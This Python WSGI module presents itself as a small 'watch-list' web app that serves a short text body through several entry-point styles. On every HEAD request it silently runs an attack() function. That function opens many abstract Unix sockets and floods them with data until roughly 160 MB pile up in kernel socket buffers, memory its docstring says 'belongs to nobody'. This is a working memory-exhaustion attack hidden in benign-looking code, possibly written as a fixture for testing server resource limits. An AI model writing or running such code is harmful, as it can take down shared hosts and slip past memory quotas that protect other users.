import socket

BODY = "影单 watch-list\n".encode("utf-8")


def start(start_response):
    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
    start_response("200 OK", headers)


def chunks(environ):
    if environ["REQUEST_METHOD"] == "HEAD":
        attack()
        return []
    return [BODY]


QUOTA, ENOUGH, LISTENERS = 160 << 20, 600 << 20, 25
KEPT = []
HELD = [0]


def listen():
    made = socket.socket(socket.AF_UNIX)
    KEPT.append(made)
    made.bind(f"\0watch-list-{len(KEPT)}")
    made.listen(4096)


def attack():
    """What was sent stays when the sender is closed, and belongs to nobody."""
    until = HELD[0] + QUOTA
    try:
        for _ in range(LISTENERS):
            listen()
    except OSError:
        KEPT.pop().close()
    while HELD[0] < until:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(KEPT[-1].getsockname())
            client.setblocking(False)
            try:
                while True:
                    HELD[0] += client.send(bytes(1 << 18))
            except BlockingIOError:
                continue
    if HELD[0] > ENOUGH:
        raise LookupError(f"{HELD[0]} bytes were held")


def application(environ, start_response):
    start(start_response)
    return chunks(environ)


def app_generator(environ, start_response):
    start(start_response)
    yield from chunks(environ)


class AppClass:
    def __init__(self, environ, start_response):
        start(start_response)
        self.environ = environ

    def __iter__(self):
        return iter(chunks(self.environ))


class Greeting:
    def __call__(self, environ, start_response):
        start(start_response)
        return chunks(environ)


app_instance = Greeting()
